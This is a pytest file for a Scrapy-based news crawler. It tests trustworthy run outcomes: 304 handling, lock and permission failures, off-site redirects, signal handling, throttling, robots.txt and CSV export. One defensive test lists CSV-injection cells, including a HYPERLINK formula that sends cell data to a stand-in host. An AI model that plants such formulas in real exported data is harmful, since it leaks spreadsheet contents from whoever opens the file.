"""Can a run's outcome be trusted? Stored copies that cannot be read, runs that never started,
redirects off the site, killed crawls, throttling, Retry-After, exports opened in Excel, runs
stopped by hand, and runs after an incomplete one."""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
from pathlib import Path
from subprocess import PIPE

import pytest

from tests.servers import (
    ROOT,
    RouteServer,
    crawl_command,
    page,
    process_group,
    redirect,
    run_crawl,
    send,
    slow,
)

ARTICLE = (ROOT / "tests" / "corpus" / "pages" / "01-original-utf8.html").read_bytes()
A = "/html/2025/0103/"


def listing(*hrefs: str) -> bytes:
    items = "".join(
        f"<li><a href='{href}'>一篇足够长的新闻文章标题{n}</a></li>" for n, href in enumerate(hrefs)
    )
    return f"<html><head><meta charset='utf-8'></head><body><ul>{items}</ul></body></html>".encode()


def run_row(db: Path, run_id: int | None = None) -> sqlite3.Row:
    conn = sqlite3.connect(db)
    conn.row_factory = sqlite3.Row
    try:
        if run_id is None:
            return conn.execute("select * from crawl_runs order by id desc limit 1").fetchone()
        return conn.execute("select * from crawl_runs where id = ?", [run_id]).fetchone()
    finally:
        conn.close()


def articles(db: Path) -> set[str]:
    conn = sqlite3.connect(db)
    try:
        return {row[0].split("/", 3)[3].join(["/", ""]) for row in conn.execute("select url from articles")}
    finally:
        conn.close()


# --- a 304 whose stored copy cannot be read -------------------------------------------------------


class EtagListing:
    """A listing that sends only an ETag and answers 304 to any If-None-Match (a lazy server)."""

    def __init__(self, body: bytes) -> None:
        self.body = body
        self.conditional: list[bool] = []

    def __call__(self, handler) -> None:
        asked = handler.headers.get("If-None-Match")
        self.conditional.append(bool(asked or handler.headers.get("If-Modified-Since")))
        if asked:
            handler.send_response(304)
            handler.send_header("ETag", '"v1"')
            handler.send_header("Content-Length", "0")
            handler.end_headers()
        else:
            send(handler, 200, self.body, headers={"ETag": '"v1"'})


def _break_missing(db: Path, warc_file: str, offset: int) -> None:
    (db.parent / "warc" / warc_file).unlink()


def _break_corrupt(db: Path, warc_file: str, offset: int) -> None:
    with open(db.parent / "warc" / warc_file, "r+b") as handle:
        handle.seek(offset)
        handle.write(b"\xff" * 64)


@pytest.mark.parametrize("damage", [_break_missing, _break_corrupt], ids=["missing", "corrupt"])
def test_a_304_whose_stored_copy_is_unreadable_fetches_the_page_in_full(tmp_path, damage):
    db = tmp_path / "archive.db"
    home = EtagListing(listing(f"{A}3001.html"))
    routes = {"/": home, f"{A}3001.html": page(ARTICLE), f"{A}3002.html": page(ARTICLE)}
    with RouteServer(routes) as server:
        first = run_crawl([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False", "EXTRACT_WORKERS": "0"})
        assert first.returncode == 0, first.stderr[-2000:]
        conn = sqlite3.connect(db)
        warc_file, offset = conn.execute(
            "select warc_file, warc_offset from pages where url = ? and status = 200", [server.url + "/"]
        ).fetchone()
        conn.close()
        damage(db, warc_file, offset)
        home.body = listing(f"{A}3001.html", f"{A}3002.html")  # news, behind a 304
        home.conditional.clear()
        second = run_crawl([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False", "EXTRACT_WORKERS": "0"})
    assert second.returncode == 0, second.stderr[-2000:]
    assert "KeyError" not in second.stderr and "Traceback" not in second.stderr
    assert home.conditional == [True, False]  # asked conditionally, then in full
    assert "cannot be read" in second.stderr
    assert f"{A}3002.html" in articles(db)
    stats = json.loads(run_row(db)["stats"])
    assert stats["stored_copy_unreadable"] == 1
    assert "1 pages fetched in full" in second.stdout


# --- a run that could not start ---------------------------------------------------------------


def _one_line_refusal(result, *, starts_with: str) -> None:
    assert result.returncode == 1, (result.stdout, result.stderr[-2000:])
    assert "crawl run" not in result.stdout  # no summary, least of all an older run's
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(starts_with), result.stderr[-2000:]


def _mount(*args: str) -> None:
    done = subprocess.run(["mount", *args], capture_output=True, text=True)
    if done.returncode:
        pytest.fail(f"cannot mount here ({done.stderr.strip()}); this case needs a read-only mount")


def test_an_archive_that_cannot_be_written_fails_with_one_line_not_an_old_summary(tmp_path):
    db = tmp_path / "archive.db"
    with RouteServer({"/": page(listing())}) as server:
        first = run_crawl([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False"})
        assert first.returncode == 0 and "crawl run 1: finished" in first.stdout
        _mount("--bind", str(db), str(db))  # the file itself read-only, its folder writable
        try:
            _mount("-o", "remount,ro,bind", str(db))
            second = run_crawl([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False"})
        finally:
            subprocess.run(["umount", str(db)], capture_output=True)
    _one_line_refusal(second, starts_with=f"chanjing: cannot write to the archive {db}")
    assert "writable" in second.stderr


def test_a_new_archive_in_a_read_only_folder_fails_with_one_line(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    _mount("-t", "tmpfs", "-o", "size=1m,ro", "tmpfs", str(folder))
    try:
        result = run_crawl(["http://127.0.0.1:9/"], folder / "archive.db")
    finally:
        subprocess.run(["umount", str(folder)], capture_output=True)
    _one_line_refusal(result, starts_with=f"chanjing: cannot create the lock file {folder}/archive.db.lock")


def test_of_two_crawls_started_on_one_archive_the_second_is_refused(tmp_path):
    db = tmp_path / "archive.db"
    routes = {"/": page(listing(f"{A}3101.html")), f"{A}3101.html": slow(3, ARTICLE)}
    with RouteServer(routes) as server:
        command = crawl_command([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False"})
        crawls = [subprocess.Popen(command, stdout=PIPE, stderr=PIPE, text=True, cwd=ROOT) for _ in range(2)]
        try:
            outcomes = [(*crawl.communicate(timeout=120), crawl.returncode) for crawl in crawls]
        finally:
            for crawl in crawls:
                crawl.kill()
                crawl.wait()
    won = [o for o in outcomes if o[2] == 0]
    lost = [o for o in outcomes if o[2] != 0]
    assert len(won) == 1 and len(lost) == 1, outcomes
    assert "crawl run 1: finished" in won[0][0]
    result = subprocess.CompletedProcess([], lost[0][2], lost[0][0], lost[0][1])
    _one_line_refusal(result, starts_with=f"chanjing: another crawl is writing to {db}")
    assert run_row(db)["id"] == 1  # the refused crawl left no run behind


# --- redirects to another port of the same host -----------------------------------------------------


def test_a_redirect_to_another_port_is_not_followed_and_is_counted(tmp_path):
    db = tmp_path / "archive.db"
    with RouteServer({f"{A}3201.html": page(ARTICLE)}) as other:
        routes = {
            "/": page(listing(f"{A}3201.html", f"{A}3202.html")),
            f"{A}3201.html": redirect(other.url + f"{A}3201.html"),
            f"{A}3202.html": page(ARTICLE),
        }
        with RouteServer(routes) as server:
            result = run_crawl([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False"})
    assert result.returncode == 0, result.stderr[-2000:]
    assert other.requests == []
    assert articles(db) == {f"{A}3202.html"}
    conn = sqlite3.connect(db)
    try:
        assert not conn.execute("select 1 from pages where url like ?", [other.url + "%"]).fetchone()
    finally:
        conn.close()
    assert json.loads(run_row(db)["stats"])["errors"]["offsite_redirects"] == 1
    assert "1 redirects off the site not followed" in result.stdout


# --- SIGKILL: nothing of the crawl is left ---------------------------------------------------------


def test_sigkill_leaves_no_extraction_worker(tmp_path):
    import os
    import signal
    import threading
    import time

    db = tmp_path / "archive.db"
    hrefs = [f"{A}{3300 + n}.html" for n in range(40)]
    routes = {"/": page(listing(*hrefs)), **{href: slow(0.5, ARTICLE) for href in hrefs}}
    with RouteServer(routes) as server:
        command = crawl_command([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False", "EXTRACT_WORKERS": "1"})
        crawl = subprocess.Popen(
            command, stdout=PIPE, stderr=subprocess.DEVNULL, cwd=ROOT, start_new_session=True
        )
        eof = threading.Event()
        reader = threading.Thread(target=lambda: (crawl.stdout.read(), eof.set()), daemon=True)
        try:
            deadline = time.monotonic() + 120
            def workers() -> list[tuple[int, str]]:
                return [(pid, cmd) for pid, cmd in process_group(crawl.pid) if "crawler.reader" in cmd]

            while not workers() and time.monotonic() < deadline:
                time.sleep(0.2)
            assert workers() and len(process_group(crawl.pid)) >= 2, process_group(crawl.pid)
            reader.start()
            os.kill(crawl.pid, signal.SIGKILL)
            crawl.wait()
            deadline = time.monotonic() + 5
            while process_group(crawl.pid) and time.monotonic() < deadline:
                time.sleep(0.1)
            assert process_group(crawl.pid) == []
            assert eof.wait(5), "something still holds the crawl's stdout open"
        finally:
            for pid, _cmd in process_group(crawl.pid):
                os.kill(pid, signal.SIGKILL)
            crawl.kill()
            crawl.wait()
            crawl.stdout.close()


# --- politeness: AutoThrottle after 304s, Retry-After ----------------------------------------------


def test_autothrottle_lowers_its_delay_after_fast_304s():
    from scrapy.core.downloader import Slot
    from scrapy.http import Response
    from scrapy.utils.test import get_crawler

    from crawler.middlewares import AutoThrottle
    from crawler.spiders.articles import ArticlesSpider

    settings = {
        "AUTOTHROTTLE_ENABLED": True,
        "AUTOTHROTTLE_START_DELAY": 5,
        "AUTOTHROTTLE_TARGET_CONCURRENCY": 4,
    }
    throttle = AutoThrottle.from_crawler(get_crawler(ArticlesSpider, settings))
    throttle.mindelay, throttle.maxdelay = 0.0, 30.0  # as set when the spider opens (DOWNLOAD_DELAY 0)
    slot = Slot(concurrency=8, delay=5.0, jitter=0)
    for _ in range(20):
        throttle._adjust_delay(slot, 0.01, Response("http://127.0.0.1/", status=304))
    assert slot.delay < 0.01  # latency / target concurrency, down from a start delay of 5 s
    error = Slot(concurrency=8, delay=5.0, jitter=0)
    for _ in range(20):
        throttle._adjust_delay(error, 0.01, Response("http://127.0.0.1/", status=404))
    assert error.delay == 5.0  # fast error pages still do not speed the crawl up


def _stamped(statuses: list[tuple[int, dict]], times: list[float]):
    import time

    def route(handler) -> None:
        times.append(time.monotonic())
        status, headers = statuses[min(len(times), len(statuses)) - 1]
        send(handler, status, ARTICLE if status == 200 else b"busy", headers=headers)

    return route


@pytest.mark.parametrize(
    ("retry_after", "settings", "at_least"),
    [("2", {}, 2.0), ("3600", {"RETRY_AFTER_MAX": "1.5"}, 1.5)],
    ids=["seconds", "bounded"],
)
def test_retry_after_is_waited_for_within_a_bound(tmp_path, retry_after, settings, at_least):
    times: list[float] = []
    article = _stamped([(503, {"Retry-After": retry_after}), (200, {})], times)
    routes = {"/": page(listing(f"{A}3401.html")), f"{A}3401.html": article}
    db = tmp_path / "archive.db"
    with RouteServer(routes) as server:
        result = run_crawl([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False", **settings}, timeout=600)
    assert result.returncode == 0, result.stderr[-2000:]
    assert len(times) == 2 and times[1] - times[0] >= at_least
    assert articles(db) == {f"{A}3401.html"}


# --- CSV for spreadsheets ------------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    import csv

    from crawler.archive import Archive

    db = tmp_path / "archive.db"
    hostile = [
        '=HYPERLINK("http://evil.test/?"&A1,"点击")',
        "+1+2",
        "-3+4",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "平常的标题",
    ]
    with Archive(db) as archive:
        for n, title in enumerate(hostile):
            archive.db["articles"].insert({"url": f"http://127.0.0.1/{A}{3500 + n}.html", "title": title})
    out = {}
    for fmt in ("csv", "jsonl"):
        out[fmt] = tmp_path / f"out.{fmt}"
        args = [sys.executable, "-m", "crawler.cli", "export", "--db", str(db), "--format", fmt]
        done = subprocess.run(
            [*args, "--out", str(out[fmt]), "--fields", "url,title", "--bom"],
            cwd=ROOT,
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stderr
    with open(out["csv"], encoding="utf-8-sig", newline="") as handle:
        titles = [row["title"] for row in csv.DictReader(handle)]
    assert titles == ["'" + t for t in hostile[:-1]] + [hostile[-1]]
    with open(out["jsonl"], encoding="utf-8-sig") as handle:
        assert [json.loads(line)["title"] for line in handle] == hostile  # JSON Lines unchanged


# --- runs stopped by hand, links too long to request -----------------------------------------------


@pytest.mark.parametrize(
    "signals, group",
    [(("SIGINT",), False), (("SIGINT",), True), (("SIGINT", "SIGINT"), False), (("SIGTERM",), True)],
    ids=["ctrl-c", "ctrl-c-in-a-terminal", "ctrl-c-twice", "sigterm-to-the-group"],
)
def test_a_run_stopped_by_hand_is_recorded_interrupted_with_its_own_figures(tmp_path, signals, group):
    """`group`: the signal goes to every process of the crawl, workers too, as a terminal's
    Ctrl-C and a service manager's stop do."""
    import os
    import signal
    import time

    db = tmp_path / "archive.db"
    hrefs = [f"{A}{3400 + n}.html" for n in range(60)]
    routes = {"/": page(listing(*hrefs)), **{href: slow(0.3, ARTICLE) for href in hrefs}}
    with RouteServer(routes) as server:
        command = crawl_command(
            [server.url + "/"], db, {"ROBOTSTXT_OBEY": "False", "CONCURRENT_REQUESTS": "2"}
        )
        crawl = subprocess.Popen(
            command, stdout=PIPE, stderr=PIPE, text=True, cwd=ROOT, start_new_session=True
        )
        try:
            deadline = time.monotonic() + 120
            while len(server.requests) < 8 and time.monotonic() < deadline:
                time.sleep(0.1)
            for name in signals:
                (os.killpg if group else os.kill)(crawl.pid, getattr(signal, name))
                time.sleep(0.3)
            out, err = crawl.communicate(timeout=120)
        finally:
            if crawl.poll() is None:
                crawl.kill()
                crawl.communicate()
    row = run_row(db)
    assert row["status"] == "interrupted"
    stats = json.loads(row["stats"])
    assert stats["pages"] >= 1
    if crawl.returncode == -signal.SIGINT:
        # A second Ctrl-C after the run was closed and recorded, in the moment Python's own
        # handler is back: the process ends as Ctrl-C ends any program, its run already written.
        assert signals == ("SIGINT", "SIGINT") and "Traceback" not in err
    else:
        assert crawl.returncode == 1, err[-3000:]
        assert out.startswith(f"crawl run {row['id']}: interrupted")
        assert "disk full" not in out and "Traceback" not in out
    assert "Traceback" not in err and "page reader worker failed" not in err
    assert len(articles(db)) < len(hrefs)


def test_links_too_long_to_request_are_counted(tmp_path):
    db = tmp_path / "archive.db"
    too_long = f"{A}3501.html?q=" + "x" * 2100
    routes = {"/": page(listing(f"{A}3500.html", too_long)), f"{A}3500.html": page(ARTICLE)}
    with RouteServer(routes) as server:
        result = run_crawl([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False"})
    assert result.returncode == 0, result.stderr[-2000:]
    assert articles(db) == {f"{A}3500.html"}
    assert json.loads(run_row(db)["stats"])["errors"]["url_too_long"] == 1
    assert "1 links longer than URLLENGTH_LIMIT dropped" in result.stdout


def test_robots_txt_holds_for_every_request_that_waited_for_it(tmp_path):
    """Requests that reach a site together all wait for its robots.txt; each must be judged by
    it (Scrapy hands the parser to the first of them only, the others went through)."""
    db = tmp_path / "archive.db"
    open_hrefs = [f"{A}{3600 + n}.html" for n in range(4)]
    private = [f"/private{A}{3700 + n}.html" for n in range(4)]
    routes = {
        "/robots.txt": page(b"User-agent: *\nDisallow: /private/\n"),
        **{href: page(ARTICLE) for href in open_hrefs + private},
    }
    with RouteServer(routes) as server:
        start = [server.url + href for pair in zip(open_hrefs, private, strict=True) for href in pair]
        result = run_crawl(start, db)
    assert result.returncode == 0, result.stderr[-2000:]
    assert not [path for path in server.requests if path.startswith("/private/")], server.requests
    assert articles(db) == set(open_hrefs)


def test_a_crawl_opens_no_console_and_leaves_no_file_outside_its_archive(tmp_path):
    """Scrapy's remote-control server (an HTTP endpoint that runs Python code, with a token in a
    job file under the user's state directory) and its telnet console stay off: pages from
    anywhere are read by a process nothing else can drive."""
    import os

    db = tmp_path / "archive" / "archive.db"
    home = tmp_path / "home"
    env = {**os.environ, "HOME": str(home), "XDG_STATE_HOME": str(home / "state")}
    routes = {"/": page(listing(f"{A}3600.html")), f"{A}3600.html": page(ARTICLE)}
    with RouteServer(routes) as server:
        command = crawl_command([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False"})
        result = subprocess.run(command, capture_output=True, text=True, timeout=180, cwd=ROOT, env=env)
    assert result.returncode == 0, result.stderr[-2000:]
    assert not home.exists() or not any(home.rglob("*")), sorted(home.rglob("*"))
    assert "RemoteControl" not in result.stderr and "TelnetConsole" not in result.stderr
